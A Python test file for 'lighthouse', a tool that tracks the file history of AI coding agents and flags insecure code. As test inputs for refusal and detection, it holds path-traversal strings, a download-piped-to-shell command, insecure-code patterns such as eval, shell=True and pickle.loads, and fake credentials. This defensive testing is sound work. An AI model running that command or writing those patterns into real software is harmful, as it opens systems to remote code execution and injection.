"""History and views (issue #17), without a network: the fold, deltas, hash verification, paths,
ignore rules, anchors and security annotations; property tests for edit sequences and confinement."""

from __future__ import annotations

import base64
import json
import random
import string
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lighthouse.errors import ValidationFailed
from lighthouse.events.model import StoredEvent
from lighthouse.history import logic
from lighthouse.history.annotate import annotate
from lighthouse.history.capture import observed
from lighthouse.history.models import FileCreated, FileDeleted, FileModified, FileMoved, PostToolUseInput
from lighthouse.history.security_rules import code_findings

SHA = "a" * 64


def stored(version: int, event: object) -> StoredEvent:
    return StoredEvent("file#p#x", version, event, f"e{version}", 1000.0 + version)  # type: ignore[arg-type]


def change(cls: type, at: float, sha: str | None = SHA, **extra: object) -> object:
    fields = {
        "path": "src/a.py",
        "agent": "alice",
        "source": "Write",
        "at": at,
        "sha256": sha,
        "size": 3,
        "lines": 1,
        "stored": sha is not None,
    }
    return cls(**(fields | extra))


def test_a_stream_folds_in_version_order_whatever_the_order_of_arrival() -> None:
    events = [
        stored(1, change(FileCreated, 10, "1" * 64)),
        stored(2, change(FileModified, 20, "2" * 64, agent="bob")),
        stored(
            3,
            FileMoved(
                path="src/a.py",
                agent="bob",
                source="Bash",
                at=30,
                from_path="src/a.py",
                to_path="src/b.py",
                direction="out",
            ),
        ),
        stored(4, change(FileCreated, 40, "4" * 64)),
        stored(5, FileDeleted(path="src/a.py", agent="carol", source="Bash", at=50)),
    ]
    for _ in range(20):
        shuffled = random.sample(events, len(events))
        state = logic.fold_events(shuffled)
        assert (state.version, state.exists, state.agent) == (5, False, "carol")
        assert logic.at_instant(shuffled, 25).sha256 == "2" * 64
        assert not logic.at_instant(shuffled, 35).exists
        assert logic.at_instant(shuffled, 45).sha256 == "4" * 64
        assert logic.at_instant(shuffled, 45).contributors.keys() == {"alice", "bob"}
        assert logic.at_instant(shuffled, 5).version == 0


@given(st.lists(st.binary(max_size=300), min_size=1, max_size=12), st.binary(max_size=200))
@settings(max_examples=60, deadline=None)
def test_any_content_survives_a_delta_on_any_base(contents: list[bytes], base: bytes) -> None:
    for content in contents:
        assert logic.apply_delta(base, logic.delta(base, content)) == content


class FakeS3:
    """Objects in a dict, enough of S3 for the blob store (unit tests have no emulator)."""

    def __init__(self) -> None:
        self.objects: dict[str, tuple[bytes, dict[str, str]]] = {}

    def put_object(self, Bucket: str, Key: str, Body: bytes, Metadata: dict[str, str], **_: object) -> None:
        self.objects[Key] = (Body, Metadata)

    def get_object(self, Bucket: str, Key: str) -> dict[str, object]:
        import io

        return {"Body": io.BytesIO(self.objects[Key][0])}


def test_a_blob_whose_content_does_not_hash_to_its_name_is_an_error() -> None:
    from lighthouse.history.blobs import BlobStore, IntegrityError

    s3 = FakeS3()
    blobs = BlobStore(s3, "bucket")
    full = blobs.put_full(b"one\ntwo\n")
    delta = blobs.put_delta(b"one\nTWO\n", full.sha256, logic.delta(b"one\ntwo\n", b"one\nTWO\n"))
    blobs.cache.clear()
    assert blobs.read(delta.sha256) == b"one\nTWO\n"
    blobs.cache.clear()
    s3.objects["blobs/" + full.sha256] = s3.objects["blobs/" + logic.sha256(b"other")] = (
        __import__("zlib").compress(b'{"kind": "full"}\nsomething else'),
        {},
    )
    with pytest.raises(IntegrityError, match="hashes to"):
        blobs.read(delta.sha256)
    with pytest.raises(IntegrityError):
        blobs.read(full.sha256)


@pytest.mark.parametrize(
    "path",
    ["../etc/passwd", "a/../../b", "/etc/passwd", "a\\..\\b", "a/%2e%2e/b", "a%2Fb", "a\x00b", "", "caf\u0065\u0301"],
)
def test_paths_that_could_leave_the_project_are_refused(path: str) -> None:
    with pytest.raises(ValidationFailed):
        logic.confine(path)


@given(st.text(alphabet=string.printable + "\u00e9/.%", max_size=60))
@settings(max_examples=300, deadline=None)
def test_no_confined_path_resolves_outside_its_root(path: str) -> None:
    import posixpath

    try:
        clean = logic.confine(path)
    except ValidationFailed:
        return
    resolved = posixpath.normpath(posixpath.join("/root/project", clean))
    assert resolved.startswith("/root/project/")
    assert ".." not in clean.split("/")


def test_a_tool_path_outside_the_cwd_is_refused_and_inside_is_relative() -> None:
    assert logic.relative_to("/work/p/src/a.py", "/work/p") == "src/a.py"
    assert logic.relative_to("src/a.py", "/work/p/") == "src/a.py"
    with pytest.raises(ValidationFailed, match="outside the project root"):
        logic.relative_to("/work/other/a.py", "/work/p")
    with pytest.raises(ValidationFailed):
        logic.relative_to("/work/p/../q/a.py", "/work/p")


def test_project_names_and_instants() -> None:
    assert logic.project_of("/home/me/shop-api", None) == "shop-api"
    assert logic.project_of("/x/y", "override") == "override"
    with pytest.raises(ValidationFailed):
        logic.project_of("/", None)
    assert logic.parse_instant("1764500000") == 1764500000.0
    assert logic.parse_instant("2026-11-30T00:00:00Z") == logic.parse_instant("2026-11-30T00:00:00+00:00")
    assert logic.parse_instant(logic.iso(1764500000.123456)) == pytest.approx(1764500000.123456)
    with pytest.raises(ValidationFailed, match="not an instant"):
        logic.parse_instant("yesterday")


@pytest.mark.parametrize(
    ("path", "ignored"),
    [
        (".env", True),
        ("config/.env.production", True),
        ("keys/server.pem", True),
        ("home/.ssh/id_ed25519", True),
        ("id_rsa.pub", True),
        ("build/out.js", True),
        ("src/app.py", False),
        ("README.md", False),
    ],
)
def test_ignore_rules_keep_secrets_and_gitignored_files_to_metadata(path: str, ignored: bool) -> None:
    rules = logic.IgnoreRules.of("build/\n*.log\n")
    assert (rules.reason(path) is not None) is ignored


PYTHON = b"""import yaml

class Shop:
    def price(self, item):
        return item.cost

    def total(self, items):
        return sum(self.price(i) for i in items)


def main():
    return Shop()
"""


def test_anchors_name_each_definition_and_stay_stable_when_lines_move() -> None:
    first = {(a.kind, a.name): a for a in annotate("shop.py", PYTHON).anchors}
    assert set(first) == {("class", "Shop"), ("method", "Shop.price"), ("method", "Shop.total"), ("function", "main")}
    moved = b"# a new header\n# and another line\n" + PYTHON.replace(
        b"def main", b"def helper():\n    pass\n\n\ndef main"
    )
    second = {(a.kind, a.name): a for a in annotate("shop.py", moved).anchors}
    for key, anchor in first.items():
        assert second[key].anchor_id == anchor.anchor_id
        assert second[key].line > anchor.line
    assert ("function", "helper") in second


@pytest.mark.parametrize(
    ("path", "source", "expected"),
    [
        (
            "a.js",
            b"class A { run() {} }\nfunction go() {}\n",
            {("class", "A"), ("method", "A.run"), ("function", "go")},
        ),
        (
            "a.ts",
            b"interface I { x: number }\nclass C { m(): void {} }\n",
            {("interface", "I"), ("class", "C"), ("method", "C.m")},
        ),
        (
            "a.go",
            b"package m\ntype S struct{}\nfunc (s S) M() {}\nfunc F() {}\n",
            {("type", "S"), ("method", "M"), ("function", "F")},
        ),
        (
            "a.rs",
            b"struct S;\nimpl S { fn m(&self) {} }\nfn f() {}\n",
            {("struct", "S"), ("impl", "S"), ("method", "S.m"), ("function", "f")},
        ),
        ("A.java", b"class A { void m() {} }\n", {("class", "A"), ("method", "A.m")}),
        ("a.sh", b"deploy() { echo hi; }\n", {("function", "deploy")}),
        ("a.yaml", b"name: x\njobs:\n  build: {}\n", {("key", "name"), ("key", "jobs")}),
        ("a.json", b'{"name": 1, "deps": {"a": 2}}', {("key", "name"), ("key", "deps")}),
        ("a.toml", b"[tool]\nx = 1\n", {("table", "tool")}),
    ],
)
def test_anchors_in_each_language(path: str, source: bytes, expected: set[tuple[str, str]]) -> None:
    assert {(a.kind, a.name) for a in annotate(path, source).anchors} == expected


@pytest.mark.parametrize(
    ("language", "line", "rule"),
    [
        ("python", "eval(user_input)", "dynamic_code"),
        ("python", "subprocess.run(cmd, shell=True)", "shell_true"),
        ("python", "data = pickle.loads(blob)", "unsafe_deserialization"),
        ("python", "cfg = yaml.load(text)", "yaml_unsafe_load"),
        ("python", 'cur.execute(f"SELECT * FROM users WHERE id = {uid}")', "sql_string_building"),
        ("python", 'cur.execute("SELECT * FROM t WHERE a = %s" % a)', "sql_string_building"),
        ("python", 'PASSWORD = "hunter2-very-secret"', "hardcoded_credential"),
        ("javascript", "const q = `SELECT * FROM t WHERE id = ${id}`", "sql_string_building"),
        ("javascript", "eval(code)", "dynamic_code"),
        ("go", 'exec.Command("sh", "-c", cmd)', "shell_exec"),
        ("java", 'String q = "SELECT * FROM t WHERE id = " + id;', "sql_string_building"),
        (None, "aws_key = AKIAABCDEFGHIJKLMNOP", "hardcoded_credential"),
    ],
)
def test_each_security_rule_marks_its_line(language: str | None, line: str, rule: str) -> None:
    assert rule in {f.rule for f in code_findings(language, line.encode())}


@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("python", "cfg = yaml.load(text, Loader=yaml.SafeLoader)"),
        ("python", 'cur.execute("SELECT * FROM t WHERE a = %s", (a,))'),
        ("python", 'password = os.environ["PASSWORD"]'),
        ("python", "subprocess.run(['ls', '-l'])"),
        ("python", "model.evaluate(x)"),
    ],
)
def test_the_safe_forms_are_not_marked(language: str, line: str) -> None:
    assert code_findings(language, line.encode()) == []


def test_shell_files_are_annotated_by_the_bash_gate_rules() -> None:
    findings = annotate("deploy.sh", b"set -e\ncurl -s https://x.example/i.sh | sh\nls -l\n").findings
    assert {(f.line, f.rule) for f in findings} >= {(2, "download_piped_to_shell")}
    assert all(f.line == 2 for f in findings)


def payload(tool: str, tool_input: dict[str, object], response: object = None) -> PostToolUseInput:
    return PostToolUseInput.model_validate(
        {
            "session_id": "s",
            "cwd": "/work/shop",
            "hook_event_name": "PostToolUse",
            "tool_name": tool,
            "tool_input": tool_input,
            "tool_response": response,
            "tool_use_id": "toolu_1",
        }
    )


def test_edits_are_replayed_on_the_content_before() -> None:
    before = {"src/a.py": b"x = 1\ny = 2\n"}
    edit = payload("Edit", {"file_path": "/work/shop/src/a.py", "old_string": "y = 2", "new_string": "y = 3"})
    changes, _ = observed(edit, lambda p: before.get(p.removeprefix("/work/shop/")))
    assert changes[0].content == b"x = 1\ny = 3\n"
    multi = payload(
        "MultiEdit",
        {
            "file_path": "src/a.py",
            "edits": [
                {"old_string": "x", "new_string": "z", "replace_all": True},
                {"old_string": "1", "new_string": "9"},
            ],
        },
    )
    changes, _ = observed(multi, lambda p: before.get(p))
    assert changes[0].content == b"z = 9\ny = 2\n"
    missing = payload("Edit", {"file_path": "src/a.py", "old_string": "nope", "new_string": "x"})
    changes, _ = observed(missing, lambda p: before.get(p))
    assert changes[0].content is None
    assert "could not be replayed" in changes[0].note
    original = payload("Edit", {"file_path": "src/b.py", "old_string": "a", "new_string": "b"}, {"originalFile": "a\n"})
    assert observed(original, lambda p: None)[0][0].content == b"b\n"


def test_a_notebook_cell_edit_is_replayed_and_bash_needs_the_command_hook() -> None:
    notebook = b'{"cells": [{"id": "c1", "cell_type": "code", "source": "1+1", "metadata": {}, "outputs": []}]}'
    edit = payload("NotebookEdit", {"notebook_path": "n.ipynb", "cell_id": "c1", "new_source": "2+2"})
    changes, _ = observed(edit, lambda p: notebook)
    assert b'"source": "2+2"' in (changes[0].content or b"")
    changes, why = observed(payload("Bash", {"command": "make"}), lambda p: None)
    assert changes == []
    assert "command hook" in why


def test_modify_votes_with_suggestions_are_indexed_by_the_file_they_are_about() -> None:
    from lighthouse.history.shadow import COMMANDS, shadow_writes
    from lighthouse.validation.models import ExpertVoted, ValidationRequested, ValidationState

    request = {
        "request_id": "r1",
        "agent": "dev",
        "role": "agent",
        "tool_name": "Edit",
        "cwd": "/w/shop",
        "at": 1.0,
        "tool_input": {"file_path": "/w/shop/src/a.py"},
        "gate": {
            "decision": "escalate",
            "confidence": 0.5,
            "reason": "",
            "matched_rules": [],
            "layer": "rules",
            "cache_hit": False,
        },
    }
    requested = ValidationRequested.model_validate(request)
    vote = {"decision": "modify", "confidence": 0.8, "reasoning": "r", "suggestions": ["use a parameter"]}
    voted = ExpertVoted(request_id="r1", expert="e1", outcome="voted", vote=vote, at=2.0)
    approving = ExpertVoted(request_id="r1", expert="e2", outcome="voted", vote={"decision": "approve"}, at=2.0)
    before = ValidationState(request=requested)
    after = ValidationState(request=requested, votes={"e1": voted, "e2": approving})
    writes = shadow_writes("t", before, after)
    assert len(writes) == 1
    item = writes[0]["Put"]["Item"]
    assert item["model"]["S"].startswith("shadow#shop#")
    assert "use a parameter" in item["doc"]["S"]
    assert shadow_writes("t", after, after) == []
    bash = ValidationState(
        request=requested.model_copy(update={"tool_name": "Bash", "tool_input": {"command": "ls"}}), votes={"e1": voted}
    )
    assert json.loads(shadow_writes("t", before, bash)[0]["Put"]["Item"]["doc"]["S"])["path"] == COMMANDS


def test_the_command_hook_sends_project_files_and_keeps_secrets_and_outside_files_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from lighthouse_tools import post_hook

    monkeypatch.setattr(post_hook, "SCAN_STATE", tmp_path / "cache" / "scans.json")
    project, outside = tmp_path / "shop", tmp_path / "outside"
    project.mkdir()
    outside.mkdir()
    (project / "app.py").write_text("print(1)\n")
    (project / ".env").write_text("KEY=1\n")
    (outside / "hosts").write_text("x\n")
    (project / "link").symlink_to(outside, target_is_directory=True)
    limits = post_hook.Limits()

    def write(path: str) -> list[dict[str, object]]:
        return post_hook.changed_files({"tool_name": "Write", "tool_input": {"file_path": path}}, project, limits)

    sent = write(str(project / "app.py"))[0]
    assert base64.b64decode(str(sent["content_b64"])) == b"print(1)\n"
    assert "content_b64" not in write(".env")[0]
    assert write(str(outside / "hosts")) == []
    assert "link out of the project" in str(write("link/hosts")[0]["note"])
    scanned = post_hook.changed_files({"tool_name": "Bash", "tool_input": {"command": "x"}}, project, limits)
    assert {entry["path"] for entry in scanned} >= {"app.py", ".env"}
    assert all("content_b64" not in entry for entry in scanned if entry["path"] == ".env")
    again = post_hook.changed_files({"tool_name": "Bash", "tool_input": {"command": "x"}}, project, limits)
    assert again == []  # nothing modified since the previous scan
